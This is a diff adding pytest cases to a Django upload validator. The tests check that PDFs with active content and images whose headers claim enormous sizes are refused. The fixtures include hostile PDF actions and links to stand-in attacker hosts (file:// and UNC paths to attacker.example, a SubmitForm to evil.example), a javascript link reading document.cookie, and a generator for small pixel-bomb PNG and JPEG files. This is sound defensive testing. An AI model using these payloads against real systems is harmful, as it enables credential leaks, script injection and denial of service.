@@ -3,19 +3,25 @@
 import contextlib
 import io
 import logging
+import struct
+import time
 import zipfile
+import zlib
 from concurrent.futures import ThreadPoolExecutor
 
 import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
-from PIL import Image, PngImagePlugin
+from django.utils import translation
+from PIL import Image, ImageFile, PngImagePlugin
 from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.annotations import Link
+from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject, TextStringObject
 
 from agreements.models import Registration
+from destreg.lib import uploads
 from destreg.lib.uploads import MAX_BYTES, DocumentField, clean_document, validate_document
 from tests import factories as f
 
@@ -63,7 +69,26 @@ def _xfa_form(writer):
 
 
 def _open_action_to_first_page(writer):
-    writer.root_object.update({NameObject("/OpenAction"): writer.pages[0]})
+    destination = ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")])
+    writer.root_object.update({NameObject("/OpenAction"): destination})
+
+
+def _link(url: str):
+    return lambda writer: writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url=url))
+
+
+def _annotation(subtype: str):
+    def change(writer):
+        annotation = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject(subtype),
+                NameObject("/Rect"): ArrayObject([FloatObject(n) for n in (50, 50, 200, 80)]),
+            }
+        )
+        writer.add_annotation(0, annotation)
+
+    return change
 
 
 def _open_action(action):
@@ -89,6 +114,19 @@ def _page_action(action):
         ("photo.jpg", f.jpeg_bytes((640, 480))),
         # a PDF that points at a page when opened does nothing active
         ("goto.pdf", f.pdf_bytes(change=_open_action_to_first_page)),
+        # links to web pages and e-mail addresses are ordinary in a document
+        ("link.pdf", f.pdf_bytes(change=_link("https://www.example.com/offer"))),
+        ("link.pdf", f.pdf_bytes(change=_link("HTTP://www.example.com/"))),
+        ("mail.pdf", f.pdf_bytes(change=_link("mailto:hr@example.com"))),
+        (
+            "toc.pdf",
+            f.pdf_bytes(
+                pages=2,
+                change=lambda w: w.add_annotation(
+                    0, Link(rect=(50, 50, 200, 80), target_page_index=1)
+                ),
+            ),
+        ),
     ],
 )
 def test_it_accepts_real_documents(name, content):
@@ -133,6 +171,30 @@ def test_a_tag_name_only_counts_with_a_tag_end_after_it():
         pytest.param(_xfa_form, id="XFA form"),
         pytest.param(_open_action(_action("/GoToR", F="\\\\evil\\share\\x.pdf")), id="GoToR"),
         pytest.param(_page_action(_action("/SubmitForm", F="https://evil.example/")), id="submit"),
+        pytest.param(_page_action(_action("/GoToE", F="x.pdf")), id="GoToE"),
+        pytest.param(_page_action(_action("/ImportData", F="data.fdf")), id="import data"),
+        # Nothing may run by itself when the document or a page opens, however harmless.
+        pytest.param(_open_action(_action("/URI", URI="https://example.com/")), id="URI on open"),
+        pytest.param(
+            _open_action(_action("/URI", URI="file://attacker.example/share/x")),
+            id="file URI on open",
+        ),
+        pytest.param(_open_action(_action("/Rendition")), id="rendition on open"),
+        pytest.param(_page_action(_action("/GoTo", D="page1")), id="any page action"),
+        pytest.param(_open_action(_action("/GoTo", D="page1")), id="any action on open"),
+        # Links that lead anywhere but a web page or an e-mail address.
+        pytest.param(_link("javascript:alert(document.cookie)"), id="javascript link"),
+        pytest.param(_link(" javascript:alert(1)"), id="javascript link after a space"),
+        pytest.param(_link("file://attacker.example/share/x"), id="file link"),
+        pytest.param(_link("\\\\attacker.example\\share\\x"), id="UNC link"),
+        pytest.param(_link("x.exe"), id="relative link"),
+        # Media, whose players run their own scripts and fetch what they play.
+        pytest.param(_page_action(_action("/Sound")), id="sound action"),
+        pytest.param(_page_action(_action("/Movie")), id="movie action"),
+        pytest.param(_annotation("/Screen"), id="screen annotation"),
+        pytest.param(_annotation("/Sound"), id="sound annotation"),
+        pytest.param(_annotation("/Movie"), id="movie annotation"),
+        pytest.param(_annotation("/RichMedia"), id="rich media annotation"),
     ],
 )
 def test_it_refuses_a_pdf_with_active_content(change):
@@ -214,6 +276,95 @@ def test_it_refuses_other_types_whatever_their_name(name, content):
 
 def test_it_refuses_a_file_over_10_mb():
     assert _refusal(b"%PDF-" + b"0" * (MAX_BYTES - 4), "big.pdf") == "size"
+
+
+def _png_of_size(width: int, height: int) -> bytes:
+    """A valid black-and-white PNG of any size that is small on disk (all white, 1 bit a pixel),
+    written chunk by chunk so that building it never holds the picture."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
+
+    compressor = zlib.compressobj(9)
+    row = b"\x00" + b"\xff" * ((width + 7) // 8)  # filter byte, then the pixels
+    pixels = b"".join(compressor.compress(row * 100) for _ in range(height // 100))
+    pixels += compressor.compress(row * (height % 100)) + compressor.flush()
+    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
+    return (
+        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
+    )
+
+
+def _jpeg_of_size(width: int, height: int) -> bytes:
+    """A small JPEG whose header claims another size (its start-of-frame marker rewritten)."""
+    content = bytearray(f.jpeg_bytes((8, 8)))
+    frame = content.index(b"\xff\xc0")  # length (2), precision (1), height (2), width (2)
+    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
+    return bytes(content)
+
+
+@pytest.fixture
+def decoded(monkeypatch):
+    """The images Pillow decodes (every decoder runs through ImageFile.load)."""
+    calls: list[object] = []
+    load = ImageFile.ImageFile.load
+
+    def spy(image):
+        calls.append(image)
+        return load(image)
+
+    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
+    return calls
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        # Just under Pillow's own limit (89 million): what an attacker sent, 9400 x 9400.
+        pytest.param("big.png", _png_of_size(9400, 9400), id="PNG 88 MP"),
+        pytest.param("big.png", _png_of_size(8000, 5001), id="PNG just over 40 MP"),
+        pytest.param("big.jpg", _jpeg_of_size(9400, 9400), id="JPEG 88 MP"),
+    ],
+)
+def test_an_image_over_40_million_pixels_is_refused_from_its_header_without_decoding(
+    name, content, decoded
+):
+    assert len(content) < 400 * 1024  # small on disk: only its header says how big it is
+    started = time.monotonic()
+    with pytest.raises(ValidationError) as refused:
+        clean_document(SimpleUploadedFile(name, content))
+    assert refused.value.code == "dimensions"
+    assert decoded == []
+    assert time.monotonic() - started < 1
+    with translation.override("zh-hans"):
+        assert "超过 40 兆像素" in refused.value.messages[0]
+
+
+def test_the_pixel_cap_itself_is_allowed(monkeypatch):
+    monkeypatch.setattr(uploads, "MAX_DOCUMENT_PIXELS", 64)
+    assert _refusal(f.png_bytes((8, 8)), "a.png") is None
+    assert _refusal(f.jpeg_bytes((8, 8)), "a.jpg") is None
+    assert _refusal(f.png_bytes((8, 9)), "a.png") == "dimensions"
+    assert _refusal(f.jpeg_bytes((9, 8)), "a.jpg") == "dimensions"
+
+
+def test_an_employer_registering_with_a_huge_image_sees_why_it_is_refused(client, reference_data):
+    from tests.employers.test_registration import URL, _form
+
+    response = client.post(
+        URL,
+        _form(
+            business_licence=SimpleUploadedFile("licence.png", _png_of_size(9400, 9400)),
+            authorisation_letter=SimpleUploadedFile("letter.png", _png_of_size(9400, 9400)),
+        ),
+    )
+    assert response.status_code == 200
+    errors = response.context["form"].errors.as_data()
+    assert errors["business_licence"][0].code == "dimensions"
+    assert errors["authorisation_letter"][0].code == "dimensions"
+    assert "该图片超过 40 兆像素" in response.content.decode()
 
 
 def test_it_refuses_a_decompression_bomb(monkeypatch):
@@ -317,6 +468,12 @@ def test_an_ordinary_pdf_is_stored_rewritten_without_metadata_and_still_opens():
     assert clean_document(SimpleUploadedFile("again.pdf", stored))  # and it passes again
 
 
+def test_a_web_link_in_a_pdf_is_stored_and_still_leads_there():
+    stored = _stored(f.pdf_bytes(change=_link("https://www.example.com/offer")), "offer.pdf")
+    annotation = PdfReader(io.BytesIO(stored)).pages[0]["/Annots"][0].get_object()
+    assert annotation["/A"]["/URI"] == "https://www.example.com/offer"
+
+
 def _with_unreferenced_object(pdf: bytes, payload: bytes) -> bytes:
     """An incremental update adding object 99, which nothing in the document refers to."""
     previous = int(pdf.rsplit(b"startxref", 1)[1].split()[0])
@@ -361,9 +518,9 @@ def test_a_signed_pdf_changed_after_signing_is_rewritten_like_any_other():
 @pytest.mark.parametrize(
     ("content", "message"),
     [
-        pytest.param(f.pdf_bytes(change=_document_script), "脚本或附件", id="JavaScript"),
+        pytest.param(f.pdf_bytes(change=_document_script), "脚本、附件", id="JavaScript"),
         pytest.param(
-            f.pdf_bytes(change=lambda w: w.add_attachment("a.exe", b"MZ")), "脚本或附件", id="file"
+            f.pdf_bytes(change=lambda w: w.add_attachment("a.exe", b"MZ")), "脚本、附件", id="file"
         ),
         pytest.param(f.pdf_bytes() + _zip(), "压缩包", id="ZIP polyglot"),
     ],
